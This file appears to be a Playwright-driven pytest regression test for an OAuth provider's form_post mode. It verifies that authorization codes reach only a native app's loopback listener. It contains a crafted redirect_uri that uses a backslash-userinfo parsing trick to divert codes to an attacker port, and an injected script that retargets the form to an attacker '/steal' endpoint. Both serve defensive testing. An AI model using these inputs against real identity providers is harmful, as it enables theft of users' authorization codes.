"""Issue 8, finding 1 in a real browser: the form_post page posts the code to the HauGiang
App's loopback listener and nowhere else.

Servers on 127.0.0.1: the provider, the app's listener on a port of its choosing (RFC 8252
7.3), and an attacker's listener. Headless Chromium (Debian's, driven by Playwright) signs
in and follows the flow. The attack of the finding (`http://localhost:B\\@127.0.0.1:A/...`
with response_mode=form_post) made Chromium post the code to localhost:B; now it gets the
error page. The page's CSP `form-action` names the app's origin only, so even a form
altered in the page cannot post elsewhere.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlencode

import pytest
from helpers.live import Server
from helpers.people import PASSWORD

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
EMAIL = "tran.thi.binh@haugiang.gov.vn"
# S256 of the verifier "v" * 43; the code is not redeemed here.
CHALLENGE = "7w_YNF9DSfIdPf_pRjSq646_kPr-2-o9NAl16JGghdM"


class Listener(Server):
    """Records every request it gets (a native app's loopback listener, or an attacker's)."""

    def __init__(self, name: str) -> None:
        from flask import Flask, request

        self.received: list[tuple[str, str, dict[str, str]]] = []
        listener = Flask(name)

        @listener.route("/", defaults={"path": ""}, methods=["GET", "POST"])
        @listener.route("/<path:path>", methods=["GET", "POST"])
        def record(path: str):
            if path != "favicon.ico":  # asked for by the browser at its own pace
                self.received.append((request.method, "/" + path, dict(request.values)))
            return f"<!doctype html><title>{name}</title><p id=arrived>{name}</p>"

        super().__init__(listener)


@pytest.fixture
def app(sqlite_app):
    """One engine is enough here: SQLite, as `make run` uses."""
    return sqlite_app


@pytest.fixture
def idp_server(app, runner, make_user) -> Iterator[Server]:
    result = runner.invoke(args=["clients", "apply", str(ROOT / "clients" / "haugiang-app.toml")])
    assert result.exit_code == 0, result.output
    make_user(EMAIL, PASSWORD)
    with Server(app) as server:
        yield server


@pytest.fixture
def native_app() -> Iterator[Listener]:
    with Listener("native-app") as listener:
        yield listener


@pytest.fixture
def attacker() -> Iterator[Listener]:
    with Listener("attacker") as listener:
        yield listener


@pytest.fixture
def page(chromium):
    context = chromium.new_context(locale="vi-VN")
    try:
        yield context.new_page()
    finally:
        context.close()


def authorize_url(idp_server: Server, redirect_uri: str, state: str) -> str:
    query = {
        "response_type": "code",
        "client_id": "haugiang-app",
        "redirect_uri": redirect_uri,
        "scope": "openid",
        "state": state,
        "response_mode": "form_post",
        "code_challenge": CHALLENGE,
        "code_challenge_method": "S256",
    }
    return f"{idp_server.url}/oauth2/authorize?{urlencode(query)}"


def sign_in_and_post(page, idp_server, native_app) -> None:
    """The legitimate flow: sign in, and the code is posted to the app's listener."""
    redirect_uri = f"http://127.0.0.1:{native_app.port}/oauth2redirect"
    page.goto(authorize_url(idp_server, redirect_uri, "legit"))
    page.get_by_label("Địa chỉ thư điện tử").fill(EMAIL)
    page.get_by_label("Mật khẩu").fill(PASSWORD)
    page.get_by_role("button", name="Đăng nhập").click()
    page.wait_for_url(redirect_uri)
    method, path, values = native_app.received[-1]
    assert (method, path) == ("POST", "/oauth2redirect")
    assert values["state"] == "legit" and values["code"]


def test_form_post_reaches_the_app_and_the_attack_reaches_nobody(
    page, idp_server, native_app, attacker
):
    sign_in_and_post(page, idp_server, native_app)
    posts = len(native_app.received)

    attack = f"http://localhost:{attacker.port}\\@127.0.0.1:{native_app.port}/oauth2redirect"
    response = page.goto(authorize_url(idp_server, attack, "stolen"))
    assert response.status == 400
    assert page.get_by_role("heading", level=1).inner_text() == "Địa chỉ quay lại không hợp lệ"
    page.wait_for_timeout(300)
    assert attacker.received == []
    assert len(native_app.received) == posts


def test_form_action_allows_only_the_apps_origin(page, idp_server, native_app, attacker):
    sign_in_and_post(page, idp_server, native_app)

    # The next form_post page is served without its script, to be driven from here.
    def without_autosubmit(route):
        response = route.fetch(max_redirects=0)
        body = response.text().replace("form-post.js", "not-loaded.js")
        route.fulfill(response=response, body=body)

    page.route(f"{idp_server.url}/oauth2/authorize?*", without_autosubmit)
    redirect_uri = f"http://127.0.0.1:{native_app.port}/oauth2redirect"
    response = page.goto(authorize_url(idp_server, redirect_uri, "second"))
    assert response.status == 200
    csp = response.headers["content-security-policy"]
    assert f"form-action http://127.0.0.1:{native_app.port};" in csp
    assert page.locator("#form-post").get_attribute("action") == redirect_uri

    # A form pointed elsewhere (as injected markup would) is blocked by the browser.
    violation = page.evaluate(
        """(target) => new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation",
                (e) => resolve(e.effectiveDirective + " " + e.blockedURI));
            const form = document.getElementById("form-post");
            form.action = target;
            form.submit();
        })""",
        f"{attacker.url}/steal",
    )
    assert violation.startswith("form-action")
    page.wait_for_timeout(300)
    assert attacker.received == []

    # The form as served posts to the app.
    posts = len(native_app.received)
    page.evaluate(
        """(target) => {
            const form = document.getElementById("form-post");
            form.action = target;
            form.submit();
        }""",
        redirect_uri,
    )
    page.wait_for_url(redirect_uri)
    assert len(native_app.received) == posts + 1
    assert native_app.received[-1][2]["state"] == "second"
